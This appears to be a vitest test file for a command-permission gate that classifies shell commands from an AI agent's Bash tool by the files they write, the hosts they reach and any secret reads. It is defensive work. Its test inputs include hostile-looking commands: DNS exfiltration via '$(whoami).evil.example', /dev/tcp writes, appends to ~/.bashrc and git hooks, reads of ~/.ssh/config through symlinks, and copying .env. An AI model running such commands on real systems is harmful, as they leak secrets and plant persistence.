import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { offersFor } from '../../../src/gate/grants/offers.ts';
import { createProgramLookup } from '../../../src/gate/program-lookup.ts';
import { DEFAULT_GATE } from '../../../src/gate/settings.ts';
import { createToolClassifier } from '../../../src/gate/tool-effects.ts';

let root: string;
let here: string;
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'hr-facts-')));
  here = join(root, 'project');
  mkdirSync(join(here, 'src/deep'), { recursive: true });
  mkdirSync(join(root, 'outside/deep'), { recursive: true });
  mkdirSync(join(root, 'home/.ssh'), { recursive: true });
  writeFileSync(join(root, 'home/.ssh/config'), 'x');
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const judge = (command: string, { cwd = here, path = '' }: { cwd?: string | null; path?: string } = {}) =>
  createToolClassifier(
    DEFAULT_GATE,
    here,
    async () => undefined,
    createProgramLookup({ PATH: path }),
  )({ tool: 'Bash', input: { command } }, { cwd, sessionId: 's' });
const written = async (command: string) =>
  (await judge(command)).targets.map(({ path }) => path.slice(root.length + 1));

describe('what a card says of a command', () => {
  it('is every program, wrappers and what they start, each with its effect', async () => {
    const { programs } = await judge("git log -3 | head && timeout 5 bash -c 'rm a; ls' && git push origin main");
    expect(programs.map(({ name, effect }) => [name, effect])).toEqual([
      ['git', 'read'],
      ['head', 'read'],
      ['timeout', 'write'],
      ['bash', 'write'],
      ['rm', 'write'],
      ['ls', 'read'],
      ['git', 'external'],
    ]);
    expect(programs.at(-1)?.text).toBe('git push origin main');
  });

  it.each([
    ['touch a src/b', ['project/a', 'project/src/b']],
    ['echo x > a 2>> b', ['project/a', 'project/b']],
    ['cat <<E | tee -a a > /dev/null\nx\nE', ['project/a']],
    ['sed -i s/a/b/ src/x', ['project/src/x']],
    ['sort -u -o out in', ['project/out']],
    ['cp a b', ['project/b']],
    ['cp a b src', ['project/src/a', 'project/src/b']],
    ['cp -t src ../outside/a', ['project/src/a']],
    ['mv a src/', ['project/a', 'project/src/a']],
    ['rm -rf ../outside', ['outside']],
    ['dd if=a of=../b', ['b']],
    ['chmod +x src/a', ['project/src/a']],
    ['mkdir -p -m 700 a/b', ['project/a/b']],
    ['find . -name x -exec rm ../y {} \\;', ['y']],
    ['cd src && touch a', ['project/src/a']],
    ['cd src && cd deep && touch ../a', ['project/src/a']],
    ['(cd src && ls); touch a', ['project/a']],
    ['cd src | touch a', ['project/a']],
  ])('is every file it writes, as it will be: %s', async (command, paths) => {
    expect(await written(command)).toEqual(paths);
  });

  it('is both files where a change of folder may have failed', async () => {
    expect(await written('cd src; touch a')).toEqual(['project/a', 'project/src/a']);
    expect(await written('cd src || ls; touch a')).toEqual(['project/a', 'project/src/a']);
  });

  it('follows links as the kernel does, also those that lead to nothing yet', async () => {
    symlinkSync(join(root, 'outside/deep'), join(here, 'link'));
    symlinkSync(join(root, 'outside/new'), join(here, 'dangling'));
    expect(await written('touch link/a')).toEqual(['outside/deep/a']);
    expect(await written('touch link/../a')).toEqual(['outside/a']);
    expect(await written('cd link && touch ../a')).toEqual(['outside/a']);
    expect(await written('cd link && cd .. && touch a')).toEqual(['project/a']);
    expect(await written('echo x > dangling')).toEqual(['outside/new']);
  });

  it('is what lies in the home folder, and what decides later', async () => {
    const { targets, tags } = await judge('echo x >> ~/.bashrc && touch "~/a" && cd .git/hooks && tee pre-push < x');
    expect(targets).toEqual([
      { path: join(realpathSync(homedir()), '.bashrc'), inside: false, later: true },
      { path: join(here, '~/a'), inside: true, later: false },
      { path: join(here, '.git/hooks/pre-push'), inside: true, later: true },
    ]);
    expect(tags).toContain('persistence');
  });

  it.each([
    ['curl -X POST https://me:pw@api.example.com:8443/x', ['api.example.com']],
    ['curl -d @a example.org/x', ['example.org']],
    ['ssh -p 22 -i key deploy@web1 uptime', ['web1']],
    ['scp a deploy@web1:/srv/', ['web1']],
    ['rsync -a . rsync://backup.example/m', ['backup.example']],
    ['git push git@github.com:acme/app.git main', ['github.com']],
    ['git clone https://example.com/r.git', ['example.com']],
    ['echo x > /dev/tcp/10.0.0.5/80', ['10.0.0.5']],
    ['psql -h db.internal -c "delete from a"', ['db.internal']],
    ['dig @10.0.0.5 $(whoami).evil.example', ['10.0.0.5', '$(whoami).evil.example']],
    ['curl "https://$HOST/x"', ['$HOST']],
    ['env A=b bash -c "curl -T a https://files.example"', ['files.example']],
    ['echo https://example.com > a', []],
  ])('is every machine it reaches: %s', async (command, hosts) => {
    expect((await judge(command)).hosts).toEqual(hosts);
  });
});

describe('a write whose files are all told', () => {
  const reach = async (command: string, cwd?: string | null) => {
    const words = { turn: 'this turn', session: 'this session' };
    const step = await judge(command, cwd === undefined ? {} : { cwd });
    return offersFor(step, { inTurn: true, cwdKnown: cwd !== null, endsAt: 1, words })[0]?.covers;
  };

  it.each(['touch a', 'cd src && rm -f a', 'echo x > a && cat a', 'cp a src/b', 'sed -i s/a/b/ a'])(
    'may be granted with other writes of the workspace: %s',
    async (command) => {
      expect(await reach(command)).toBe('workspace-writes');
    },
  );

  it.each([
    'touch a; git commit -m x',
    'touch $x',
    'touch *.ts',
    'cp -r a src',
    'ln -s /etc x; touch x/y',
    'mv link x && touch x/y',
    'rm --no-such-option a',
    'npm test > out',
    'cd "$x" && touch a',
    'tar xf a.tar',
    'patch -p1 < a',
  ])('is granted by itself where more may be written than is told: %s', async (command) => {
    expect(await reach(command)).toBe('same-digest');
  });

  it.each(['touch ../a', 'rm -rf .', 'echo x > /tmp/a', 'cd .. && touch a', 'cp .env notes.txt', 'tee ~/x < a'])(
    'is granted once where it leaves the workspace or copies a secret: %s',
    async (command) => {
      expect(await reach(command)).toBe('this-call');
    },
  );

  it('is granted once where nobody knows from where it writes', async () => {
    expect(await reach('touch a', null)).toBe('this-call');
  });
});

describe('a program by its name', () => {
  const program = (folder: string, name: string) => {
    mkdirSync(join(root, folder), { recursive: true });
    writeFileSync(join(root, folder, name), '#!/bin/sh\n');
    chmodSync(join(root, folder, name), 0o755);
    return join(root, folder);
  };

  it('is unknown where the first of that name on the PATH is in no trusted folder', async () => {
    const path = `${program('bin', 'cat')}:/usr/bin:/bin`;
    expect(await judge('ls | xargs cat', { path })).toMatchObject({
      effect: 'unknown',
      reason: `cat would be ${join(root, 'bin/cat')}, which may be any program`,
    });
    expect((await judge('ls', { path })).effect).toBe('read');
    expect((await judge('cat a', { path: `/usr/bin:/bin:${join(root, 'bin')}` })).effect).toBe('read');
  });

  it('is looked for from where the command runs when the PATH says so', async () => {
    program('project', 'ls');
    for (const path of ['.:/usr/bin', ':/usr/bin']) {
      expect((await judge('ls', { path })).effect, path).toBe('unknown');
      expect((await judge('ls', { path, cwd: join(here, 'src') })).effect, path).toBe('read');
    }
  });

  it('is what the tables say where it is nowhere, or no program', async () => {
    const folder = program('bin', 'cat');
    chmodSync(join(folder, 'cat'), 0o644);
    expect((await judge('cat a', { path: folder })).effect).toBe('read');
    expect((await judge('rg x', { path: '' })).effect).toBe('read');
  });

  it('reaches outside all the same', async () => {
    expect((await judge('git push', { path: program('bin', 'git') })).effect).toBe('external');
  });
});

describe('a read by a command', () => {
  it('may be of a secret by another name, from another folder or through a link', async () => {
    symlinkSync(join(root, 'home/.ssh/config'), join(here, 'notes.txt'));
    symlinkSync(join(root, 'home'), join(here, 'up'));
    for (const command of ['cat notes.txt', 'head < notes.txt', 'cat up/.ssh/config', 'cd up/.ssh && cat config']) {
      expect((await judge(command)).tags, command).toContain('secret-read');
    }
    expect((await judge('cat config', { cwd: join(root, 'home/.ssh') })).tags).toContain('secret-read');
    expect((await judge('cat config')).tags).toEqual([]);
  });

  it('may not be of what is handraise’s own', async () => {
    mkdirSync(join(root, 'home/.config/handraise'), { recursive: true });
    symlinkSync(join(root, 'home/.config/handraise'), join(here, 'settings'));
    expect((await judge('cat settings/config.yaml')).tags).toContain('names-handraise');
    expect((await judge('cat a.yaml', { cwd: join(root, 'home/.config/handraise') })).tags).toContain(
      'names-handraise',
    );
  });
});
